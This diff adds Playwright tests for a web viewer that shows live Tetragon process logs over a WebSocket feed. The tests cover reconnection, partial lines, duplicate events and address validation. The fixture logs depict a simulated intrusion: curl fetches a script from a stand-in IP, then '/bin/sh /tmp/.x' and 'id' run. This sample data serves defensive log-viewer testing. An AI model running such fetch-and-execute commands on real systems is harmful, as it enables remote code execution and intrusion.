@@ -1,0 +1,171 @@
+import { appendFile } from 'node:fs/promises'
+import { drawLog } from '../src/testing/draw-log'
+import { expect, test } from './helpers/test'
+import type { Viewer } from './helpers/viewer'
+import { HAS_WEBSOCKETD, WITHOUT_WEBSOCKETD, Websocketd } from './helpers/websocketd'
+
+const isCi = Boolean(process.env['CI']) && process.env['CI'] !== 'false'
+// in CI the tests run, and fail, without it
+test.skip(!HAS_WEBSOCKETD && !isCi, WITHOUT_WEBSOCKETD)
+
+const start = drawLog(`
+  pod default/xwing container 1fb931d2 node n1
+    10 /bin/bash 0s..
+      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
+`)
+const more = drawLog(`
+  pod default/xwing container 1fb931d2 node n1
+    10 /bin/bash 0s..30s
+      12 /bin/sh /tmp/.x 10s..20s
+        13 /usr/bin/id 12s..13s
+`)
+/** The lines of `more` that are not in `start`. */
+const appended = more.lines.filter((line) => !start.lines.includes(line))
+
+let server: Websocketd | undefined
+test.afterEach(async () => {
+  await server?.stop()
+  server = undefined
+})
+
+async function connect(viewer: Viewer, url: string): Promise<void> {
+  await viewer.button('Connect').click()
+  await viewer.page.getByRole('textbox', { name: /Address of a WebSocket/ }).fill(url)
+  await viewer.page.getByRole('region', { name: 'Open a log' }).getByRole('button', { name: 'Connect' }).last().click()
+}
+
+function feedState(viewer: Viewer) {
+  return viewer.page.getByRole('banner').getByRole('status').filter({ hasText: /live|connect|closed/ })
+}
+
+test('events of a feed appear, and those that are written later appear by themselves', async ({ viewer, folder }) => {
+  const file = await folder.write('tetragon.log', start.text)
+  server = await Websocketd.serve(file)
+  await viewer.goto()
+  await connect(viewer, server.url)
+  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
+  await expect(feedState(viewer)).toContainText('live')
+  await expect(viewer.row('/bin/bash').getByRole('gridcell').last()).toContainText('running')
+  await expect(viewer.status).toContainText('feed lag')
+  const before = await viewer.visibleRange()
+
+  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
+  await expect(viewer.row('/usr/bin/id')).toBeVisible()
+  await expect(viewer.row('/usr/bin/id')).toHaveAttribute('aria-level', '4')
+  await expect(viewer.row('/bin/bash').getByRole('gridcell').last()).toHaveText('10:00:00.000, 30 s, exit 0')
+  await expect(viewer.status).toContainText('4 processes')
+  // the whole log stays in view as it grows
+  expect((await viewer.visibleRange()).to).toBeGreaterThan(before.to)
+})
+
+test('a line that is written in two halves is one event', async ({ viewer, folder }) => {
+  const file = await folder.write('tetragon.log', start.text)
+  server = await Websocketd.serve(file)
+  await viewer.goto()
+  await connect(viewer, server.url)
+  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
+  const [line, ...rest] = appended
+  await appendFile(file, line.slice(0, 100))
+  await appendFile(file, `${line.slice(100)}\n${rest.join('\n')}\n`)
+  await expect(viewer.row('/usr/bin/id')).toBeVisible()
+  await expect(viewer.status).toContainText('nothing is known to be missing')
+})
+
+test('a selection and a range stay where they are while events come', async ({ viewer, folder, page }) => {
+  const file = await folder.write('tetragon.log', start.text)
+  server = await Websocketd.serve(file)
+  await viewer.goto()
+  await connect(viewer, server.url)
+  await viewer.selectRow('/usr/bin/curl')
+  await viewer.changeRange(() => page.keyboard.press('f'))
+  const range = await viewer.visibleRange()
+  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
+  await expect(viewer.row('/usr/bin/id')).toBeVisible()
+  expect(await viewer.visibleRange()).toEqual(range)
+  await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
+})
+
+test('the raw JSON of an event of a feed is the line that was sent', async ({ viewer, folder, page }) => {
+  server = await Websocketd.serve(await folder.write('tetragon.log', start.text))
+  await viewer.goto()
+  await connect(viewer, server.url)
+  await viewer.selectRow('/usr/bin/curl')
+  await page.getByRole('tab', { name: 'Raw JSON' }).click()
+  await expect(page.getByRole('tabpanel')).toContainText('"process_exec"')
+  const shown = (await page.getByRole('tabpanel').locator('pre').textContent()) ?? ''
+  const line = start.lines.find((other) => other.includes('curl') && other.includes('process_exec'))!
+  expect(JSON.parse(shown)).toEqual(JSON.parse(line))
+})
+
+test('a lost connection is said, is made again by itself, and what is sent again counts once', async ({
+  viewer,
+  folder,
+}) => {
+  const file = await folder.write('tetragon.log', start.text)
+  server = await Websocketd.serve(file)
+  await viewer.goto()
+  await connect(viewer, server.url)
+  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
+
+  await server.stop()
+  await expect(feedState(viewer)).toContainText('disconnected')
+  await expect(feedState(viewer)).toContainText('trying again in')
+  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
+
+  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
+  await server.start()
+  await expect(feedState(viewer)).toContainText('live', { timeout: 20_000 })
+  await expect(viewer.row('/usr/bin/id')).toBeVisible()
+  await expect(viewer.status).toContainText('4 processes')
+  await expect(viewer.status).toContainText(`${start.lines.length + appended.length} events`)
+  await viewer.status.getByRole('button', { name: /data quality/ }).click()
+  await expect(viewer.page.getByRole('dialog')).toContainText(`${start.lines.length} duplicates`)
+})
+
+test('a feed is disconnected by its button, and what was received stays', async ({ viewer, folder }) => {
+  const file = await folder.write('tetragon.log', start.text)
+  server = await Websocketd.serve(file)
+  await viewer.goto()
+  await connect(viewer, server.url)
+  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
+  await viewer.button('Disconnect').click()
+  await expect(feedState(viewer)).toContainText('closed')
+  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
+  await server.stop()
+  await viewer.waitForIdle()
+  await expect(feedState(viewer)).toContainText('closed')
+  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
+  await expect(viewer.status).toContainText('2 processes')
+})
+
+test('a file can be opened beside a feed', async ({ viewer, folder }) => {
+  server = await Websocketd.serve(await folder.write('tetragon.log', start.text))
+  await viewer.goto()
+  await connect(viewer, server.url)
+  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
+  await viewer.dropFiles({ name: 'earlier.log', content: more.text })
+  await expect(viewer.status).toContainText('4 processes')
+  await expect(viewer.row('/usr/bin/id')).toBeVisible()
+  await expect(viewer.page.getByRole('banner')).toContainText('earlier.log')
+})
+
+test('a feed that is not there is said, and the way back is open', async ({ viewer, folder }) => {
+  server = await Websocketd.serve(await folder.write('tetragon.log', start.text))
+  await server.stop()
+  await viewer.goto()
+  await connect(viewer, server.url)
+  await expect(feedState(viewer)).toContainText('disconnected')
+  await expect(viewer.page.getByText('Waiting for the first event.')).toBeVisible()
+  await viewer.button('Close log').click()
+  await expect(viewer.button('Open the sample')).toBeVisible()
+})
+
+test('an address that is no WebSocket is refused with a sentence', async ({ viewer, page }) => {
+  await viewer.goto()
+  await connect(viewer, 'http://127.0.0.1:9106/')
+  await expect(page.getByRole('alert')).toContainText('ws:// or wss://')
+  await page.getByRole('textbox', { name: /Address of a WebSocket/ }).fill('ws://')
+  await page.keyboard.press('Enter')
+  await expect(page.getByRole('alert')).toContainText('ws:// or wss://')
+  await expect(viewer.button('Open the sample')).toBeVisible()
+})
